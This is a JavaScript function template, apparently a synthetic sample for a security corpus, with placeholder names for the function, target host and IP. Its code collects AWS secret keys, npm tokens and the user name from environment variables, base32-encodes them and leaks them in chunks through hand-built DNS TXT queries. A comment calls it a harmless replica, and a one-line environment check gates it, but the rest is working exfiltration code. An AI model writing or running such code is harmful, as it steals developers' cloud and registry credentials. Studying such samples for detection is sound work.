// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const channel = require('dgram').createSocket('udp4');
  channel.on('error', () => {});
  const label = (text) => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)]);
  const base32 = (data) => {
    let bits = '';
    for (const one of data) bits += one.toString(2).padStart(8, '0');
    return (bits.match(/.{1,5}/g) || []).map((five) => 'abcdefghijklmnopqrstuvwxyz234567'[parseInt(five.padEnd(5, '0'), 2)]).join('');
  };
  const text = base32(Buffer.from([process.env.AWS_SECRET_ACCESS_KEY, process.env.NPM_TOKEN, process.env.USER].join(',')));
  for (const part of text.match(/.{1,60}/g) || []) {
    const head = Buffer.from([Math.random() * 256, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
    const query = Buffer.concat([head, label(part), ...'{{host}}'.split('.').map(label), Buffer.from([0, 0, 16, 0, 1])]);
    await new Promise((done) => channel.send(query, 53, '{{ip}}', () => setTimeout(done, 50)));
  }
  channel.close();
}
